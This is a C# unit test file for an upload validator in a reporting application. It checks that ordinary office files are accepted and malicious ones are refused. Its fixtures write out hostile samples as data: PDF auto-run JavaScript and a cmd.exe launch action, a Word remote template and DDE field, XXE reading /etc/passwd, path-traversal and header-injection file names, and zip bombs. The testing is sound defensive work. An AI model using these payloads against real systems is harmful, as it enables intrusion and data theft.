using System.IO.Compression;
using System.Text;
using Xiangzhi.Reports.Tests.Documents;
using Xiangzhi.Reports.Uploads;
using Xunit;

namespace Xiangzhi.Reports.Tests.Uploads;

/// <summary>What a file is follows from its bytes; what acts by itself, hides something or is a bomb is refused with its cure.</summary>
public sealed class UploadCheckTests
{
    private const string Png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    private static readonly string Nested = new StringBuilder().Insert(0, "<a>", 500).Append(new StringBuilder().Insert(0, "</a>", 500)).ToString();

    private static byte[] Pdf(string inside) => Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n<< /Type /Catalog {inside} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static TheoryData<string, byte[]> Good() => new()
    {
        { "照片.JPG", Jpeg(4000, 3000) },
        { "截图.png", Convert.FromBase64String(Png) },
        { "回证.pdf", Pdf("/OpenAction [3 0 R /Fit]") },
        { "笔录.docx", Word() },
        { "台账.xlsx", Fixtures.Read("ledger.xlsx") },
        { "录像.mp4", [0, 0, 0, 24, .. "ftypmp42"u8, .. new byte[16]] },
        { "录音.m4a", [0, 0, 0, 24, .. "ftypM4A "u8, .. new byte[16]] },
        { "录音.mp3", [.. "ID3"u8, 4, 0, .. new byte[32]] },
        { "说明.txt", "甲方：<三个月内>付清，a < b。"u8.ToArray() },
        { "导出.csv", Fixtures.Read("ledger-gb18030.csv") },
    };

    [Theory, MemberData(nameof(Good))]
    public void What_an_office_sends_is_taken_for_what_it_is(string name, byte[] content)
    {
        using var stream = new MemoryStream(content);
        var accepted = Assert.IsType<UploadVerdict.Accepted>(UploadCheck.Of(stream, name, UploadKind.Attachments));
        Assert.Contains(Path.GetExtension(name).ToLowerInvariant(), accepted.Kind.Endings);
        Assert.Equal(0, stream.Position);
    }

    public static TheoryData<string, byte[], string> Bad() => new()
    {
        { "空.pdf", [], "空文件" },
        { "照片.jpg", "<html><script>alert(1)</script></html>"u8.ToArray(), "不是可以收的文件" },
        { "图.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>"u8.ToArray(), "不是可以收的文件" },
        { "说明.txt", Encoding.UTF8.GetBytes(new string('字', 40_000) + "<ScRiPt src=x>"), "不是可以收的文件" },
        { "说明.txt", [.. "abc"u8, 0, 1], "不是可以收的文件" },
        { "照片.jpg", Convert.FromBase64String(Png), "结尾和内容不符" },
        { "照片.exe", Convert.FromBase64String(Png), "结尾和内容不符" },
        { "程序.pdf", [.. "MZ"u8, .. new byte[64]], "不是可以收的文件" },
        { "动图.gif", [.. "GIF89a"u8, 1, 0, 1, 0], "不是可以收的文件" },
        { "旧表.xls", Fixtures.Read("ledger.xls"), "旧版 Office" },
        { "大图.jpg", Jpeg(65_000, 65_000), "65000 × 65000" },
        { "大图.jpg", Jpeg(15_000, 15_000), "15000 × 15000" },
        { "坏图.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 2], "已损坏" },
        { "脚本.pdf", Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "脚本" },
        { "藏名.pdf", Pdf("/OpenAction << /S /J#61vaScr#69pt >>"), "脚本" },
        { "启动.pdf", Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "启动别的程序" },
        { "夹带.pdf", Pdf("/Names << /EmbeddedFiles 4 0 R >>"), "藏在里面的文件" },
        { "加密.pdf", Pdf("/Encrypt 5 0 R"), "加了密码" },
        { "压着.pdf", Pdf2("<< /S /JavaScript >>"u8.ToArray()), "脚本" },
        { "胀开.pdf", Pdf2(new byte[64 * 1024 * 1024]), "解开后太大" },
        { "断了.pdf", [.. "%PDF-1.7\n"u8, .. new byte[5000]], "不完整" },
        { "断了.docx", "PK\u0003\u0004"u8.ToArray(), "不是可以收的文件" },
        { "压缩.docx", Zip(("a.txt", "x")), "不是可以收的文件" },
        { "宏.docx", Word(("word/vbaProject.bin", "x")), "宏" },
        { "宏.docx", Word(("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), "宏" },
        { "对象.docx", Word(("word/embeddings/oleObject1.bin", "x")), "嵌入的对象" },
        { "夹带.docx", Word(("word/media/image1.png", "PK\u0003\u0004")), "藏着另一个文件" },
        { "模板.docx", Word(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")), "别处的模板" },
        { "远图.docx", Word(("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"http://x/image\" Target=\"file://evil.example/i.png\" TargetMode=\"External\"/></Relationships>")), "别处的模板" },
        { "怪链.docx", Word(("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"http://x/hyperlink\" Target=\"javascript:x\" TargetMode=\"External\"/></Relationships>")), "别处的模板" },
        { "实体.docx", Word(("word/document.xml", "<!DOCTYPE d [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><d>&b;</d>")), "DTD" },
        { "外实体.docx", Word(("word/document.xml", "<!DOCTYPE d SYSTEM \"file:///etc/passwd\"><d/>")), "DTD" },
        { "域.docx", Word(("word/document.xml", "<w:d xmlns:w=\"w\"><w:fldChar/><w:instrText> D</w:instrText><w:instrText>DEAUTO c:\\cmd</w:instrText></w:d>")), "DDE" },
        { "太深.docx", Word(("word/document.xml", Nested)), "太深" },
        { "滑出.docx", Word(("../../x.xml", "<a/>")), "部件名字" },
        { "绝对.docx", Word(("/x.xml", "<a/>")), "部件名字" },
        { "两份.docx", Word(("word/Document.xml", "<a/>")), "部件名字" },
        { "胀开.docx", Word(("word/big.xml", "<a>" + new string(' ', 20_000_000) + "</a>")), "解开后太大" },
        { "太多.docx", Word([.. Enumerable.Range(0, 3_100).Select(i => ($"word/{i}.xml", "<a/>"))]), "太多" },
    };

    [Theory, MemberData(nameof(Bad))]
    public void What_acts_hides_or_swells_is_refused_with_its_cure(string name, byte[] content, string what)
    {
        using var stream = new MemoryStream(content);
        var refused = Assert.IsType<UploadVerdict.Refused>(UploadCheck.Of(stream, name, UploadKind.Attachments));
        Assert.StartsWith($"没有收下“{name}”：", refused.Message, StringComparison.Ordinal);
        Assert.Contains(what, refused.Message, StringComparison.Ordinal);
        Assert.Contains("请", refused.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("../../etc/passwd.png")]
    [InlineData("a/b.png")]
    [InlineData("C:\\x.png")]
    [InlineData("a\0.png")]
    [InlineData("a\r\nSet-Cookie: x.png")]
    [InlineData("photo\u202Egnp.exe.png")]
    [InlineData("a\u200B.png")]
    [InlineData("nul.png")]
    [InlineData("a\".png")]
    [InlineData("  ")]
    public void A_name_that_leads_astray_is_refused(string name)
    {
        using var stream = new MemoryStream(Convert.FromBase64String(Png));
        var refused = Assert.IsType<UploadVerdict.Refused>(UploadCheck.Of(stream, name, UploadKind.Attachments));
        Assert.DoesNotContain(refused.Message, char.IsControl);
        Assert.DoesNotContain('\u202E', refused.Message);
    }

    [Fact]
    public void A_name_has_its_length() => Assert.Contains("121 个字", FileNames.Fault(new string('长', 117) + ".png")!, StringComparison.Ordinal);

    [Fact]
    public void A_file_that_is_too_long_is_not_read()
    {
        using var stream = new MemoryStream(new byte[1000]);
        Assert.Contains("MB", Assert.IsType<UploadVerdict.Refused>(UploadCheck.Of(stream, "a.pdf", UploadKind.Attachments, new() { Bytes = 999 })).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_part_that_is_longer_than_the_archive_says_ends_the_reading()
    {
        using var part = new BoundedStream(new MemoryStream(new byte[100]), 50);
        Assert.Throws<InvalidDataException>(() => part.CopyTo(Stream.Null, 60));
    }

    [Fact]
    public void A_table_may_be_an_old_workbook_and_point_elsewhere_but_bears_no_macro()
    {
        Assert.IsType<UploadVerdict.Accepted>(OfTable("表.xls", Fixtures.Read("ledger.xls")));
        var linked = Added(Fixtures.Read("ledger.xlsx"), "xl/externalLinks/externalLink1.xml", "<a/>");
        Assert.IsType<UploadVerdict.Accepted>(OfTable("表.xlsx", linked));
        using var stream = new MemoryStream(linked);
        Assert.IsType<UploadVerdict.Refused>(UploadCheck.Of(stream, "表.xlsx", UploadKind.Attachments));
        Assert.IsType<UploadVerdict.Refused>(OfTable("表.xlsx", Added(linked, "xl/vbaProject.bin", "x")));
        Assert.Contains("另存为 .xlsx", Assert.IsType<UploadVerdict.Refused>(OfTable("表.pdf", Pdf(""))).Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("image/jpeg", "image/jpeg")]
    [InlineData("text/plain", "text/plain; charset=utf-8")]
    [InlineData("text/html", "application/octet-stream")]
    [InlineData("image/svg+xml", "application/octet-stream")]
    public void A_file_goes_out_under_a_type_of_the_list_or_as_mere_bytes(string stored, string sent) => Assert.Equal(sent, UploadKind.MediaOf(stored));

    private static UploadVerdict OfTable(string name, byte[] content)
    {
        using var stream = new MemoryStream(content);
        return UploadCheck.Of(stream, name, UploadKind.Tables);
    }

    private static byte[] Jpeg(int width, int height) =>
        [0xFF, 0xD8, 0xFF, 0xE0, 0, 6, 1, 2, 3, 4, 0xFF, 0xC0, 0, 17, 8, (byte)(height >> 8), (byte)(height & 0xFF), (byte)(width >> 8), (byte)(width & 0xFF), 3, 1, 0x22, 0, 2, 0x11, 1];

    /// <summary>A PDF with these bytes in a compressed object stream.</summary>
    private static byte[] Pdf2(byte[] inside)
    {
        using var packed = new MemoryStream();
        using (var packing = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
            packing.Write(inside);
        return [.. "%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"u8, .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8];
    }

    private static byte[] Word(params (string Path, string Text)[] more)
    {
        (string Path, string Text)[] usual = [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<d>甲</d>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"http://x/hyperlink\" Target=\"https://www.gov.cn/\" TargetMode=\"External\"/></Relationships>")];
        return Zip([.. usual.Where(u => more.All(m => m.Path != u.Path)), .. more]);
    }

    private static byte[] Zip(params (string Path, string Text)[] parts)
    {
        using var target = new MemoryStream();
        using (var zip = new ZipArchive(target, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (path, text) in parts)
                using (var writer = new StreamWriter(zip.CreateEntry(path, CompressionLevel.Optimal).Open()))
                    writer.Write(text);
        return target.ToArray();
    }

    private static byte[] Added(byte[] package, string path, string text)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        using (var writer = new StreamWriter(zip.CreateEntry(path).Open()))
            writer.Write(text);
        return stream.ToArray();
    }
}
